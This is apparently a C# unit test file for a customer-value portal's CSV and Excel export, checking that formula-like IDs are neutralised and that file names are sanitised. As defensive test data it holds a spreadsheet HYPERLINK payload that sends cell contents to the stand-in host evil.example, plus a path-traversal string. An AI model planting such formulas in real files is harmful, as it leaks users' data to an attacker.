using System.Text;
using ClosedXML.Excel;
using ClvPortal.Web.Data;
using ClvPortal.Web.Results;

namespace ClvPortal.Tests.Web.Results;

[Trait("Category", "Unit")]
public sealed class CustomerExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+31 20 555")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Neutralize_FormulaLead_PrefixesApostrophe(string text) =>
        Assert.Equal("'" + text, CustomerExport.Neutralize(text));

    [Theory]
    [InlineData("C000123")]
    [InlineData("12345")]
    [InlineData("anna@example.com")]
    [InlineData("")]
    public void Neutralize_OrdinaryId_Unchanged(string text) =>
        Assert.Equal(text, CustomerExport.Neutralize(text));

    [Fact]
    public async Task WriteCsvAsync_FormulaCustomerId_WritesNeutralisedText()
    {
        var csv = await CsvOf([Customer(Hyperlink, clv: 12.5), Customer("C2", clv: -3)]);

        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(3, lines.Length);
        // No email, then the id: it holds quotes and commas, so it is quoted; inside the quotes it starts with the apostrophe.
        Assert.StartsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\",,,12.5,", lines[1], StringComparison.Ordinal);
        Assert.DoesNotContain(lines, l => l.Contains(",=", StringComparison.Ordinal) || l.Contains(",\"=", StringComparison.Ordinal));
        // The portal's own numbers stay numbers, negative ones included.
        Assert.StartsWith(",C2,,,-3,", lines[2], StringComparison.Ordinal);
    }

    [Fact]
    public async Task WriteCsvAsync_Always_StartsWithBomAndHeader()
    {
        using var output = new MemoryStream();
        await CustomerExport.WriteCsvAsync(ToAsync([Customer("C1", clv: 1)]), output, CancellationToken.None);

        var bytes = output.ToArray();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.StartsWith("email,customer_id,name,country,predicted_clv,", Encoding.UTF8.GetString(bytes[3..]), StringComparison.Ordinal);
    }

    [Fact]
    public async Task WriteCsvAsync_AnalysisInPounds_NamesTheCurrencyInTheLastColumn()
    {
        using var output = new MemoryStream();
        await CustomerExport.WriteCsvAsync(ToAsync([Customer("C1", clv: 1)]), output, "GBP", CancellationToken.None);

        var lines = Encoding.UTF8.GetString(output.ToArray()[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.EndsWith(",currency", lines[0], StringComparison.Ordinal);
        Assert.EndsWith(",GBP", lines[1], StringComparison.Ordinal);
        Assert.Equal(lines[0].Count(c => c == ','), lines[1].Count(c => c == ','));
    }

    [Fact]
    public void WriteXlsx_FormulaCustomerId_StoresTextNotFormula()
    {
        using var output = new MemoryStream();
        CustomerExport.WriteXlsx([Customer(Hyperlink, clv: 12.5), Customer("@cmd", clv: 2)], output);

        output.Position = 0;
        using var workbook = new XLWorkbook(output);
        var sheet = workbook.Worksheet("Customers");
        Assert.Equal("customer_id", sheet.Cell(1, 2).GetString());
        foreach (var row in new[] { 2, 3 })
        {
            var id = sheet.Cell(row, 2);
            Assert.False(id.HasFormula, $"row {row} became a formula");
            Assert.StartsWith("'", id.GetString(), StringComparison.Ordinal);
        }

        Assert.Equal("'" + Hyperlink, sheet.Cell(2, 2).GetString());
        Assert.Equal(12.5, sheet.Cell(2, 5).GetDouble());
    }

    [Fact]
    public async Task WriteCsvAsync_RoundedNegativeZero_IsWrittenAsZero()
    {
        var csv = await CsvOf([Customer("C1", clv: -0.001)]);

        Assert.StartsWith(",C1,,,0,", csv.Split("\r\n")[1], StringComparison.Ordinal);
    }

    [Fact]
    public void FileName_WinBackSearch_NamesTheListNotTheSearchText()
    {
        var id = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e");

        Assert.Equal(
            "clv-results-0f8fad5bd9cb469fa16570867728950e-win-back-search.csv",
            CustomerExport.FileName(id, "csv", new CustomerFilter(Search: "../../etc\"x", List: CustomerList.WinBack)));
    }

    [Fact]
    public void FileName_AnyUpload_UsesTheUploadIdOnly()
    {
        var id = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e");

        Assert.Equal("clv-results-0f8fad5bd9cb469fa16570867728950e.xlsx", CustomerExport.FileName(id, "xlsx"));
    }

    private static async Task<string> CsvOf(IReadOnlyList<CustomerResultDocument> customers)
    {
        using var output = new MemoryStream();
        await CustomerExport.WriteCsvAsync(ToAsync(customers), output, CancellationToken.None);
        return new UTF8Encoding(false).GetString(output.ToArray()).TrimStart('\uFEFF');
    }

    private static async IAsyncEnumerable<CustomerResultDocument> ToAsync(IEnumerable<CustomerResultDocument> customers)
    {
        foreach (var c in customers)
        {
            await Task.Yield();
            yield return c;
        }
    }

    private static CustomerResultDocument Customer(string id, double clv) => new()
    {
        OwnerId = "owner",
        CustomerId = id,
        HeadlineClv = clv,
        FirstPurchase = new DateTime(2025, 1, 2, 0, 0, 0, DateTimeKind.Utc),
        LastPurchase = new DateTime(2025, 3, 4, 0, 0, 0, DateTimeKind.Utc),
    };
}
